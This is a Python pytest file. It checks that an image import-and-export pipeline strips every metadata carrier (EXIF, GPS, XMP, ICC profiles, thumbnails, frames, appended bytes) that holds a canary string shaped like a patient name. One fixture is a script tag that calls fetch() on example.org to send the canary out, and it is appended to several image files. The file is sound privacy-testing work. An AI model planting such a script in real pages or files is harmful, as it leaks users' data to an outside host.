"""Images that carry more than a picture: nothing of it is in any byte of an export."""

from __future__ import annotations

import io
import json
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image, ImageCms, PngImagePlugin

from diq_core.data.importing import import_samples
from diq_core.export.exporters import EXPORTERS
from diq_core.export.writer import write_export

CANARY = b"CANARY-Erika-Mustermann"
WORDS = CANARY.decode()
SCRIPT = b"<script>fetch('//example.org/" + CANARY + b"')</script>"


def picture(mode: str = "RGB") -> Image.Image:
    """Return a small picture without a symmetry."""
    drawn = Image.new("RGB", (7, 5), "navy")
    drawn.putpixel((0, 0), (250, 10, 20))
    drawn.putpixel((6, 1), (20, 240, 30))
    return drawn.convert(mode)


def saved(format: str, mode: str = "RGB", **options: object) -> bytes:
    file = io.BytesIO()
    picture(mode).save(file, format, **options)
    return file.getvalue()


def exif(*, gps: bool = False) -> bytes:
    made = Image.Exif()
    made[0x010E] = WORDS
    made[0x9286] = CANARY
    if gps:
        made.get_ifd(0x8825)[29] = WORDS
    return made.tobytes()


def with_thumbnail() -> bytes:
    """Return EXIF with a second directory, whose small JPEG names the patient."""
    small = saved("JPEG", comment=CANARY)
    entries = struct.pack("<HHII", 0x201, 4, 1, 44) + struct.pack("<HHII", 0x202, 4, 1, len(small))
    first = struct.pack("<H", 0) + struct.pack("<I", 14)
    return b"Exif\0\0II*\0" + struct.pack("<I", 8) + first + struct.pack("<H", 2) + entries + (
        struct.pack("<I", 0) + small
    )  # fmt: skip


def profile() -> bytes:
    """Return a colour profile whose description names the patient."""
    made = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + CANARY)
    made[:4] = struct.pack(">I", len(made))
    return bytes(made)


def segment(marker: int, content: bytes) -> bytes:
    """Return a JPEG file with a segment of one's own."""
    data = saved("JPEG")
    return data[:2] + struct.pack(">BBH", 255, marker, len(content) + 2) + content + data[2:]


def chunk(name: bytes, content: bytes, data: bytes = b"") -> bytes:
    """Return a PNG file with a chunk of one's own before its pixels."""
    data = data or saved("PNG")
    made = struct.pack(">I", len(content)) + name + content
    return data[:33] + made + struct.pack(">I", zlib.crc32(name + content)) + data[33:]


def text() -> PngImagePlugin.PngInfo:
    made = PngImagePlugin.PngInfo()
    made.add_text("Patient", WORDS)
    made.add_text("Compressed", WORDS, zip=True)
    made.add_itxt("Title", WORDS)
    return made


def in_palette() -> bytes:
    """Return a PNG whose unused colours spell the name."""
    drawn = Image.new("P", (4, 4), 1)
    drawn.putpalette(bytes(6) + CANARY * 10)
    file = io.BytesIO()
    drawn.save(file, "PNG")
    return file.getvalue()


def in_transparency() -> bytes:
    drawn = Image.new("P", (4, 4), 0)
    drawn.putpalette(bytes(range(250)) * 3)
    file = io.BytesIO()
    drawn.save(file, "PNG", transparency=b"\xff" + CANARY)
    return file.getvalue()


def frames(format: str) -> bytes:
    second = Image.frombytes("L", (len(CANARY), 1), CANARY)
    file = io.BytesIO()
    first = picture("L").resize(second.size)
    first.save(file, format, save_all=True, append_images=[second])
    return file.getvalue()


def in_webp(name: bytes) -> bytes:
    data = saved("WEBP", lossless=True)
    content = CANARY + b"\0" * (len(CANARY) % 2)
    data += name + struct.pack("<I", len(content)) + content
    return data[:4] + struct.pack("<I", len(data) - 8) + data[8:]


def in_gif(block: bytes) -> bytes:
    data = saved("GIF")
    return data[:-1] + block + bytes([len(CANARY)]) + CANARY + b"\0" + data[-1:]


def tiff(tag: int) -> bytes:
    from PIL import TiffImagePlugin

    tags = TiffImagePlugin.ImageFileDirectory_v2()
    if tag in (700, 33723, 65000):
        tags.tagtype[tag] = 7
    tags[tag] = CANARY if tag in tags.tagtype else WORDS
    return saved("TIFF", tiffinfo=tags)


CARRIERS: dict[str, tuple[bytes, str]] = {
    "JPEG: EXIF": (saved("JPEG", exif=exif()), "EXIF"),
    "JPEG: GPS": (saved("JPEG", exif=exif(gps=True)), "position (GPS)"),
    "JPEG: thumbnail": (saved("JPEG", exif=with_thumbnail()), "thumbnail"),
    "JPEG: JFIF thumbnail": (
        segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\x08\1" + CANARY + b"\0" * (24 - len(CANARY))),
        "thumbnail",
    ),
    "JPEG: XMP": (segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + CANARY), "XMP"),
    "JPEG: IPTC": (segment(0xED, b"Photoshop 3.0\x008BIM\4\4\0\0\0\0\0\x17" + CANARY), "IPTC"),
    "JPEG: comment": (saved("JPEG", comment=CANARY), "comment"),
    "JPEG: profile": (saved("JPEG", icc_profile=profile()), "colour profile"),
    "JPEG: segment": (segment(0xE9, CANARY), "other data"),
    "JPEG: appended": (saved("JPEG") + SCRIPT, "bytes after the end"),
    "JPEG: second picture": (saved("JPEG") + saved("JPEG", comment=CANARY), "bytes after the end"),
    "MPO: second picture": (frames("MPO") + CANARY, "further pictures"),
    "PNG: text": (saved("PNG", pnginfo=text()), "text"),
    "PNG: EXIF": (saved("PNG", exif=exif()), "EXIF"),
    "PNG: GPS": (saved("PNG", exif=exif(gps=True)), "position (GPS)"),
    "PNG: profile": (saved("PNG", icc_profile=profile()), "colour profile"),
    "PNG: XMP": (chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + CANARY), "XMP"),
    "PNG: time": (chunk(b"tIME", struct.pack(">HBBBBB", 2026, 5, 4, 3, 2, 1)), "date"),
    "PNG: private": (chunk(b"paTi", CANARY), "other data"),
    "PNG: appended": (saved("PNG") + SCRIPT, "bytes after the end"),
    "PNG: archive": (saved("PNG") + b"PK\3\4" + CANARY, "bytes after the end"),
    "PNG: palette": (in_palette(), ""),
    "PNG: transparency": (in_transparency(), ""),
    "PNG: frames": (frames("PNG"), "further pictures"),
    "GIF: comment": (saved("GIF", comment=CANARY), "comment"),
    "GIF: plain text": (in_gif(b"\x21\x01"), "text"),
    "GIF: application": (in_gif(b"\x21\xff\x0bSOMEONE 1.0"), "other data"),
    "GIF: frames": (frames("GIF"), "further pictures"),
    "GIF: appended": (saved("GIF") + SCRIPT, "bytes after the end"),
    "WebP: EXIF": (saved("WEBP", lossless=True, exif=exif()), "EXIF"),
    "WebP: XMP": (saved("WEBP", lossless=True, xmp=CANARY), "XMP"),
    "WebP: profile": (saved("WEBP", lossless=True, icc_profile=profile()), "colour profile"),
    "WebP: private": (in_webp(b"paTi"), "other data"),
    "WebP: frames": (frames("WEBP"), "further pictures"),
    "WebP: appended": (saved("WEBP", lossless=True) + SCRIPT, "bytes after the end"),
    "TIFF: description": (tiff(270), "text"),
    "TIFF: artist": (tiff(315), "text"),
    "TIFF: XMP": (tiff(700), "XMP"),
    "TIFF: IPTC": (tiff(33723), "IPTC"),
    "TIFF: private": (tiff(65000), "text"),
    "TIFF: profile": (saved("TIFF", icc_profile=profile()), "colour profile"),
    "TIFF: pages": (frames("TIFF"), "further pictures"),
    "TIFF: appended": (saved("TIFF") + SCRIPT, ""),
    "TIFF of CMYK": (saved("TIFF", "CMYK", icc_profile=profile()), "colour profile"),
    "BMP: appended": (saved("BMP") + SCRIPT, "bytes after the end"),
}  # fmt: skip


def written(folder: Path) -> bytes:
    """Return every byte of a folder, packed parts unpacked as far as they can be, and names."""
    parts = []
    for file in sorted(each for each in folder.rglob("*") if each.is_file()):
        data = file.read_bytes()
        parts += [str(file).encode(), data]
        if file.suffix in (".png", ".tif"):
            with Image.open(file) as image:
                parts += [repr(image.info).encode(), bytes(image.getpalette() or [])]
                assert getattr(image, "n_frames", 1) == 1
                assert not image.getexif() or file.suffix == ".tif"
                parts.append(repr(dict(image.getexif())).encode())
                if file.suffix == ".tif":
                    parts.append(repr(getattr(image, "tag_v2", {})).encode())
    return b"\n".join(parts)


@pytest.mark.parametrize(("data", "kind"), CARRIERS.values(), ids=CARRIERS)
def test_nothing_but_the_picture_leaves(tmp_path: Path, data: bytes, kind: str) -> None:
    (tmp_path / f"{WORDS}.img").write_bytes(data)
    row = {"id": "q", "question": "What is it?", "answer": "That.", "images": [f"{WORDS}.img"]}
    (tmp_path / "pool.jsonl").write_text(json.dumps(row) + "\n")
    kept = tmp_path / "images"
    found = import_samples(tmp_path / "pool.jsonl", images_to=kept)
    (name,) = found.samples[0].images
    said = [each.message for each in found.findings if each.rule == "image-metadata"]
    assert (not kind) or any(kind in each for each in said), said
    assert WORDS not in " ".join(said)
    made = write_export(found.samples, tmp_path / "out", "trl", images=kept)
    assert CANARY not in written(tmp_path / "out")
    assert (not kind) or made.removed[kind] == 1
    (file,) = (tmp_path / "out" / "images").iterdir()
    with Image.open(kept / name) as before, Image.open(file) as after:
        assert after.convert("RGBA").tobytes() == before.convert("RGBA").tobytes()


@pytest.mark.parametrize("format", [name for name in EXPORTERS if EXPORTERS[name].pictures])
def test_no_format_takes_metadata_along(tmp_path: Path, format: str) -> None:
    kept = tmp_path / "images"
    rows = []
    for number, (data, _) in enumerate(CARRIERS.values()):
        (tmp_path / f"{number}.img").write_bytes(data)
        rows.append(
            {"question": f"What is {number}?", "answer": "It.", "images": [f"{number}.img"]}
        )
    (tmp_path / "pool.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    samples = import_samples(tmp_path / "pool.jsonl", images_to=kept, compare=False).samples
    write_export(samples, tmp_path / "out", format, images=kept)
    assert CANARY not in written(tmp_path / "out")
